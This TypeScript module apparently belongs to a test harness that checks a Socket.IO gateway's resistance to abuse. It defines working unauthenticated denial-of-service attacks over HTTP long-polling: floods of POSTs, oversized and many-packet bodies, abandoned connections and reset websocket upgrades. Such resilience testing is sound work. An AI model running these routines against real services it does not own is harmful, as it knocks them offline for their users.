/** HTTP long-polling, where GATEWAY_TRANSPORTS lists it. */
import type { Socket } from "node:net";
import type { Attack, Load, Target } from "./attack.ts";
import { dial, httpRequest, keepBusy, pour, repeated, untilGone } from "./peers.ts";

const path = "/socket.io/?EIO=4&transport=polling";
const openWithinMs = 5_000;

async function receiveUntil(socket: Socket, text: RegExp): Promise<string> {
  let seen = "";
  const timer = setTimeout(() => socket.destroy(), openWithinMs);
  for await (const chunk of socket.iterator({ destroyOnReturn: false })) {
    seen += String(chunk);
    if (text.test(seen)) break;
  }
  clearTimeout(timer);
  const found = text.exec(seen)?.[1];
  if (found === undefined) throw new Error("closed before it opened");
  return found;
}

/** Opens a connection of the engine by polling. @returns its id and the TCP connection, which stays open. */
async function openPolling({ gateway }: Target, load: Load): Promise<{ socket: Socket; id: string }> {
  const socket = await dial(gateway, load);
  socket.write(httpRequest(`GET ${path}`, gateway));
  const id = await receiveUntil(socket, /"sid":"([^"]+)"/);
  return { socket, id };
}

function post({ gateway }: Target, id: string, body: string): Buffer {
  return httpRequest(`POST ${path}&sid=${id}`, gateway, { "content-type": "text/plain;charset=UTF-8" }, body);
}

const bodies: readonly { name: string; does: string; body: () => string }[] = [
  { name: "polling-posts", does: "POSTs of one packet", body: () => "3" },
  {
    name: "polling-packets",
    does: "POSTs of 190,000 packets",
    body: () => Array.from({ length: 190_000 }, () => "6").join("\u001e"),
  },
  { name: "polling-large-posts", does: "POSTs of one message of 388 KiB", body: () => `4${"9".repeat(390_000)}` },
  { name: "polling-binary", does: "POSTs of 388 KiB of binary", body: () => `b${"A".repeat(390_000)}` },
];

const gatewaySettings = { GATEWAY_TRANSPORTS: "websocket,polling" };

export const pollingAttacks: readonly Attack[] = [
  ...bodies.map(({ name, does, body }): Attack => ({
    name,
    does: `${does} before authentication, without waiting for answers`,
    needs: "nothing",
    gatewaySettings,
    run: async (target, load) => {
      const text = body();
      await keepBusy(load, async () => {
        const { socket, id } = await openPolling(target, load);
        const { bytes, frames } = repeated(post(target, id, text));
        socket.resume();
        await pour(socket, bytes, frames, load);
      });
    },
  })),
  {
    name: "polling-opens",
    does: "connections of the engine, opened by polling and abandoned, without waiting for answers",
    needs: "nothing",
    gatewaySettings,
    run: async (target, load) => {
      const { bytes, frames } = repeated(httpRequest(`GET ${path}`, target.gateway));
      await keepBusy(load, async () => {
        const socket = await dial(target.gateway, load);
        socket.resume();
        await pour(socket, bytes, frames, load);
      });
    },
  },
  {
    name: "polling-upgrade-reset",
    does: "connections opened by polling whose upgrade to a websocket is reset",
    needs: "nothing",
    gatewaySettings,
    run: async (target, load) =>
      keepBusy(load, async () => {
        const { socket, id } = await openPolling(target, load);
        const upgrade = httpRequest(`GET /socket.io/?EIO=4&transport=websocket&sid=${id}`, target.gateway, {
          connection: "Upgrade",
          upgrade: "websocket",
          "sec-websocket-version": 13,
          "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==",
        });
        socket.write(upgrade);
        load.sent(1, upgrade.length);
        setTimeout(() => socket.resetAndDestroy(), Math.random() * 20);
        await untilGone(socket, load);
      }),
  },
];
